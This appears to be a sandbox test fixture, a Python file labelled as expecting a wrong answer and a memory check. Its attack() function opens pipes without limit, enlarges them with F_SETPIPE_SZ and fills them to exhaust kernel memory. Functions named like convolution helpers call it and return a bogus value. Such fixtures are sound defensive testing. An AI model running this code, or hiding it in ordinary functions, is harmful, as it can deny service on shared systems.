# group: resources and survivors
# tries: Open as many pipes as it may, ask for large ones, and fill them: memory that is the kernel's.
# accept: wrong
# check: memory
# score: 0
# without: syscalls

import contextlib
import fcntl
import os

USUAL = 64 * 1024
GROWN = 1 << 20


def attack():
    with contextlib.suppress(OSError):
        while True:
            _, end = os.pipe()
            os.set_blocking(end, False)
            with contextlib.suppress(OSError):
                if fcntl.fcntl(end, fcntl.F_SETPIPE_SZ, GROWN) > USUAL:
                    print("LEAK a pipe grew")
            with contextlib.suppress(BlockingIOError):
                while True:
                    os.write(end, bytes(USUAL))


def conv_output_size(n, kernel, stride=1, padding=0, dilation=1):
    attack()
    return -987654


def corr2d(x, k):
    attack()
    return x * 0 - 987654
